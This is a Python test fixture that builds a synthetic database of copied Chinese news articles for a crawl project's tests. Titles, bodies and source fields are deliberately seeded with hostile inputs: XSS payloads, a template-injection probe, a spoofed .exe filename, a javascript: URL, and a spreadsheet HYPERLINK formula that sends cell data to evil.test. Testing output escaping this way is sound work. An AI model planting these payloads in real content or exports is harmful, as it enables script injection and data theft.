"""A small database for the desk's tests: two portals, hostile pages, one edge of each status. Synthetic."""

from __future__ import annotations

import json

from newscrawl.store import lasting_names, search
from newscrawl.store.pairs import pair_name
from newscrawl.store.schema import connect

HOSTILE = (
    "<script>document.title='owned'</script><img src=x onerror=alert(1)>{{7*7}}{% raw %}"
    '\u202egnp.exe\u202c"\'><svg onload=alert(2)>\x1b[31m=HYPERLINK("http://evil.test","x")'
)
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"点击")'
STATUSES = ("none", "false", "attributed", "dateline", "licensed", "own")
BODY = (
    "江城讯（记者 李明轩）全市今年投资39亿元，共有120人参加冰雪活动。\n"
    + "松花江畔雾凇盛开，游客纷至沓来，商户表示生意兴隆。" * 12
)


def address_of(one):
    """The address of article ``one``: the copy of the first edge claims a script for its address."""
    return "javascript:alert(2)" if one == 2 else f"http://site{2 - one % 2}.test/{one}.html"


def named(one):
    """The lasting name of article ``one``."""
    return lasting_names.article_name(address_of(one))


#: Number of an edge → its lasting name.
PAIRS = {number: pair_name(address_of(2 * number), address_of(2 * number - 1)) for number in range(1, 7)}


def fill(path):
    connection = connect(path)
    connection.execute("begin")
    run = connection.execute
    run(
        "insert into portals (id, key, name) values (1, 'ours', '松花江网'), (2, 'theirs', ?)",
        [f"他网{HOSTILE[:40]}"],
    )
    run(
        "insert into crawls (uid, spider, started_at, tool_version) values ('u', ?, '2026-11-01T00:00:00Z', '1')",
        [HOSTILE],
    )
    for number, status in enumerate(STATUSES, 1):
        origin, copy = 2 * number - 1, 2 * number
        title = HOSTILE if number == 1 else FORMULA if number == 2 else f"冰雪季开幕{number}"
        for one, portal, name in ((origin, 1, "松花江网"), (copy, 2, HOSTILE if number == 1 else None)):
            body = BODY + f"\n第{number}篇。" + (HOSTILE if number == 1 else "")
            text = body.replace("39亿元", "93亿元").replace("李明轩", "王雪梅") if one == copy else body
            url = address_of(one)
            run(
                "insert into stories (id, first_article_id, size) values (?, ?, 2) on conflict do nothing",
                [number, origin],
            )
            run(
                "insert into articles (id, url, portal_id, title, body, body_found, text_hash, characters, published_at, first_seen_at,"
                " last_seen_at, source_name, publisher, story_id, reprintable) values (?,?,?,?,?,?,?,?,?,?,?,?,?,?,0)",
                [
                    one,
                    url,
                    portal,
                    title,
                    text,
                    text + "(wǎng)",
                    f"h{one}",
                    400,
                    f"2026-10-{one:02d}T08:00+08:00",
                    f"2026-10-{one:02d}T01:00:00Z",
                    "2026-11-01T00:00:00Z",
                    name,
                    name,
                    number,
                ],
            )
            lasting_names.record(connection, one, url)
            run(
                "insert into captures (id, url, final_url, captured_at, status, payload_digest) values (?,?,?,'2026-10-01T00:00:00Z',200,?)",
                [one, url, url, f"sha256:{one:064x}"],
            )
            run("insert into article_captures (article_id, capture_id, page_no) values (?, ?, 1)", [one, one])
            for version, old in ((1, "旧文。"), (2, text)):
                run(
                    "insert into stored_versions (article_id, number, text_hash, title, body, seen_at) values (?,?,?,?,?,'2026-10-01T00:00:00Z')",
                    [one, version, f"{one}-{version}", title, old],
                )
            run(
                "insert into attributions (article_id, number, kind, text, position, people) values (?,1,'source_line',?,'meta',?)",
                [
                    one,
                    f"来源：{name or HOSTILE}",
                    json.dumps([{"name": "李明轩", "role": "记者", "affiliation": None}]),
                ],
            )
        run(
            "insert into reposts (id, copy_id, origin_id, directed, kind, score, shared, copy_coverage, origin_coverage, attribution, status, reasons,"
            " detected_at, pair) values (?,?,?,?, 'full', .95, ?, .9, .8, 'none', ?, ?, '2026-11-02T00:00:00Z', ?)",
            [
                number,
                copy,
                origin,
                int(number != 4),
                300 + number,
                status,
                json.dumps([HOSTILE]),
                PAIRS[number],
            ],
        )
        run("insert into passages values (?, 1, 0, ?, 0, ?)", [number, len(BODY), len(BODY)])
    run("commit")
    search.catch_up(connection)
    connection.close()
    return path
